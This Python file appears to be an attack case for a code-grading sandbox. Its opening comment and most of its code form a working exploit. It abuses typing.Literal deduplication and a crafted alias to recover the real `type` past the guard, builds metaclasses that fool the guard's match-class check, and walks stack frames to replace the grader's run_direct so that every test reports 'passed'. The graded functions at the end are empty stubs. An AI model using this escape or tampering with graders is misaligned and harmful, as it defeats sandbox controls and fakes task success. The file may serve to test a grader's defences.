# attack: all three functions do nothing, yet 3/3, through typing.Literal handing out `type(p)` of its values:
#         1. Literal[...] dedupes its values as the pairs (p, type(p)) (typing._deduplicate): set(pairs), then
#            `if t in all_params: all_params.remove(t)` for each pair, then `assert not all_params, all_params`.
#            A value whose hash changes between those steps (List[probe], hashed through a probe whose __hash__
#            counts its calls) leaves its pair behind: AssertionError(set of pairs), or KeyError(pair) when the
#            hash changes between `in` and remove(). main.py reads `args` of any exception: the pair holds the
#            real class typing._GenericAlias, which type(x) only shows as a stand-in.
#         2. _GenericAlias(origin, (), name=...) makes an alias of ANY origin (Annotated[] wants origin.__module__)
#            and such an alias reads every name it lacks off its origin with the real getattr: past the guard's
#            "exceptions only offer args". typing.Type.missing raised AttributeError with .obj = the real `type`.
#         3. with the real type: a metaclass whose __match_args__ property is missing when the guard asks
#            (hasattr in match_classes.match_class, so a str subclass is used as it is: it binds the subject itself)
#            and present when the interpreter reads it, with an __instancecheck__ that says yes: `case Read(x)`
#            reads gi_frame, f_back, f_globals off anything; the runner's grader.execution.run_direct is replaced.
# expect: graded FFF
import typing


class Shifty:
    def __init__(self, steady):
        self.steady = steady
        self.calls = -1000

    def __hash__(self):
        self.calls += 1
        return 7 if self.calls <= self.steady else self.calls


def alias_class(steady):
    probe = Shifty(steady)
    alias = typing.List[probe]
    probe.calls = 0
    try:
        typing.Literal[alias, alias]
    except AssertionError as error:
        for pair in error.args[0]:
            return pair[1]
    except KeyError as error:
        return error.args[0][1]
    except Exception:
        pass
    return None


def real_type(made_alias):
    try:
        typing.Type.missing_name
    except AttributeError as error:
        try:
            return made_alias(error, (), name='carrier').obj
        except Exception:
            return None
    return None


RealType = None
for steady in (2, 3):
    AliasClass = alias_class(steady)
    if AliasClass is not None and AliasClass is not type(typing.List[int]):
        print('BREACH: typing.Literal handed out', AliasClass.__name__, 'with', steady, 'steady hashes')
        RealType = real_type(AliasClass)
if RealType is not None:
    print('BREACH: the real type through an alias of an AttributeError:', RealType)
    reads = [0]

    def reader(names):
        def read(cls):
            reads[0] += 1
            if reads[0] % 2:
                raise AttributeError('not yet')
            return names
        return property(read)

    def pattern(name):
        Meta = RealType('Meta', (RealType,), {'__match_args__': reader((name,)),
                                              '__instancecheck__': lambda cls, obj: True})
        return Meta('Read', (str,), {})

    GiFrame, FBack, FGlobals = pattern('gi_frame'), pattern('f_back'), pattern('f_globals')
    ModuleDict = pattern('__dict__')
    holder = []

    def walk():
        match holder[0]:
            case GiFrame(frame):
                pass
        while frame is not None:
            match frame:
                case FGlobals(found):
                    if 'execution' in found and 'Battery' in found:  # grader/runner.py
                        match found['execution']:
                            case ModuleDict(namespace):
                                namespace['run_direct'] = lambda item, student, seconds: {'outcome': 'passed'}
                                print('BREACH: grader.execution.run_direct replaced')
            match frame:
                case FBack(frame):
                    pass
        yield None

    holder.append(walk())
    try:
        next(holder[0])
    except Exception:
        pass


def validate_ticket_proposal(proposal):
    return None


def proposal_fingerprint(proposal):
    return None


def dispatch_ticket(proposal, actor, approved, state, completed):
    return None
